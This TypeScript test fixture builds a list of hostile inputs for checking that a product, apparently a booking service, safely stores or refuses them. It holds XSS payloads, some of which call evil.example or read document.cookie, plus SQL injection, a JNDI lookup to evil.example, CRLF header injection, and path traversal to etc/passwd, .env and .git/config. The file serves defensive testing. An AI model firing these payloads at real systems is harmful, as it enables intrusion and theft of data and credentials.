const words = (text: string) => text.trim().split(/\s+/)
const crossed = (befores: string[], afters: string[]) =>
  befores.flatMap((before) => afters.map((after) => before + after))

/**
 * Texts that broke other programs: markup, statements, paths, line ends, addresses, dates, numbers, letters of every kind.
 * None of them may do more to the product than be stored as text or be refused.
 */
export const hostileInputs: readonly string[] = [
  ...markup(),
  ...statements(),
  ...paths(),
  ...lineBreaks(),
  ...addresses(),
  ...daysAndTimes(),
  ...letters(),
  ...namesAndNumbers(),
  ...big()
]

/** Each script in every kind of markup that could run it. */
function markup(): string[] {
  const carriers = [
    '<script>%</script>',
    '</script><script>%</script>',
    '<img src=x onerror=%>',
    '<svg/onload=%>',
    `"><iframe srcdoc='<script>%</script>'>`,
    `' onfocus='%' autofocus='`,
    'javascript:%',
    '{{constructor.constructor("%")()}}',
    '<style>*{background:url("javascript:%")}</style>',
    ']]><script>%</script>',
    '&lt;script&gt;%&lt;/script&gt;',
    '<a href="data:text/html,%">x</a>',
    '<!--#exec cmd="%"-->',
    '<%= % %>'
  ]
  const scripts = words('alert(1) fetch("//evil.example") document.cookie')
  return carriers.flatMap((carrier) => scripts.map((script) => carrier.replace('%', script)))
}

function statements(): string[] {
  const ends = words(`' " ') '; \\ \` $$ */ '||'`)
  const rests = [
    ' OR 1=1--',
    '; DROP TABLE bookings;--',
    ' UNION SELECT value FROM secrets--',
    '; SELECT pg_sleep(5)--'
  ]
  const others = words(
    `% _ %%%% \${7*7} #{7*7} {{7*7}} %s%s%n $(sleep) \`sleep\` |sleep *)(uid=* \${jndi:ldap://evil.example/a} {"$gt":""}
     [$ne]=1 \\x00 0x27 E'\\x27' NULL null`
  )
  return [...crossed(ends, rests), ...others]
}

function paths(): string[] {
  const steps = words('../ ..\\ ..%2f %2e%2e/ %2e%2e%2f ..%5c ....// ..;/ .%00./ %252e%252e%252f ..%c0%af')
  const targets = words('etc/passwd package.json .env .git/config')
  const others = words('. .. / // /// \\ .env % %% %zz %00 C:\\ file:///etc/passwd http://127.0.0.1/ ? # & ; *')
  return [...crossed(steps, targets), ...others]
}

function lineBreaks(): string[] {
  const breaks = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '\\n', '\\r\\n', '%0d%0a']
  const rests = [
    ...['Bcc: evil@evil.example', 'Set-Cookie: a=b'],
    ...words('END:VEVENT ATTENDEE:mailto:evil@evil.example . {}')
  ]
  return [...breaks, ...crossed(crossed(['a'], breaks), rests)]
}

function addresses(): string[] {
  const long = [
    `${'a'.repeat(246)}@long.co`,
    `${'a'.repeat(247)}@long.co`,
    `${'a.'.repeat(900)}@x.co`,
    `a@${'b.'.repeat(900)}co`
  ]
  const spaced = ['x <v@o.example>', '"a b"@x.co', 'a b@x.co', ' a@x.co ', 'a@x.co\0', 'a@x.co (c)']
  const others = words(
    `a@b.co o'hara+x@mail.example a&b=c/d#e?f@mail.example {x}|y~\`z^w@mail.example A@B.EXAMPLE a@b-c.example "x"<v@o.example>
     <a@b.co> a,b@x.co a@x.co,b@x.co a@x.co;b@x.co g:b@x.co; a(b)@x.co "a@b"@x.co @r.co:b@x.co a%v.co@x.co a!b@x.co a@@x.co
     a@x@y.co a@[127.0.0.1] a@127.0.0.1 a@localhost a@x.co. a@.co a@x..co a..b@x.co .a@x.co a.@x.co a@-x.co a@x-.co ä@x.co
     a@exämple.co а@x.co a＠x.co mailto:a@x.co a@x.1 @ a@ @b.co a =?utf-8?Q?a?=@x.co`
  )
  return [...long, ...spaced, ...others]
}

function daysAndTimes(): string[] {
  const days = words(
    `2026-02-30 2027-02-29 2028-02-29 2026-13-01 2026-00-10 2026-12-00 2026-12-32 0000-00-00 0000-01-01 0001-01-01 9999-12-31
     10000-01-01 +2026-12-01 -2026-12-01 2026-1-1 26-12-01 2026/12/01 01.12.2026 20261201 2026-W48 2026-335 2026-12-01T00:00
     2026-12-01T00:00:00Z today tomorrow now epoch infinity -infinity allballs ２０２６-12-01 2026‐12‐01 275760-09-14`
  )
  const times = words(
    `00:00 07:45 08:00 08:01 08:15 21:45 21:46 22:00 23:15 23:30 23:59 24:00 25:00 99:99 9:00 09:0 0900 09:00:00 09:00:60
     09:00.5 09:00Z 09:00+01:00 9am noon -09:00 09:60 09:-1 09：00 ０９:００ ٠٩:٠٠ 1e1:00 0x9:00`
  )
  return [...days, ...times, '2026-12-01 ', ' 2026-12-01', '2026-12-01\n', '09:00\n', ' 09:00', '09:00 AM']
}

function letters(): string[] {
  const controls = Array.from({ length: 65 }, (_, index) => String.fromCharCode(index < 32 ? index : 0x5f + index))
  const marks = [
    ...'\u00ad\u034f\u061c\u115f\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2064\u206a\u2800\u3164\ufe0f\ufeff',
    ...'\uffa0\ufff9\ufffc\ufffd\ufffe\uffff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'
  ]
  const halves = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', 'a\ud83d', '\ude00a']
  const people = ['Zoe\u0308', 'محمد عبد الله', 'שרה כהן', 'สมชาย ใจดี', ...words('山田太郎 Εlena 👩‍💻 👨‍👩‍👧‍👦 İı ﬃ ẞ')]
  const wild = words(`\u{1d173} \u{e0001} 🏴\u{e0067}\u{e007f} \u{f0000} \u{10ffff} Z${'\u0335\u0489'.repeat(40)}`)
  const spaces = ['', ' ', '   ', '\u00a0', '\u3000']
  const within = (each: string) => `a${each}b`
  return [...controls.map(within), ...marks, ...marks.map(within), ...halves, ...people, ...wild, ...spaces]
}

function namesAndNumbers(): string[] {
  return words(
    `__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then toJSON length id cancelled
     cancelled_at cancelled_by created_at sequence wiped_at during role admin __proto__[polluted]
     constructor.prototype.polluted a[b] a.b a[] 0 -0 1 -1 1e999 -1e999 NaN Infinity 9007199254740993 1e-7 0x10 0b1 1_000 ١
     true false undefined`
  )
}

function big(): string[] {
  const one = ['a', ' ', '\\', '"', "'", '<', '%', '漢', '\u0301', '😀', '\ufdfd', '1', '.', '@', '-', '(']
  return [...one.flatMap((letter) => [121, 501, 2001].map((times) => letter.repeat(times))), 'a'.repeat(33_000)]
}
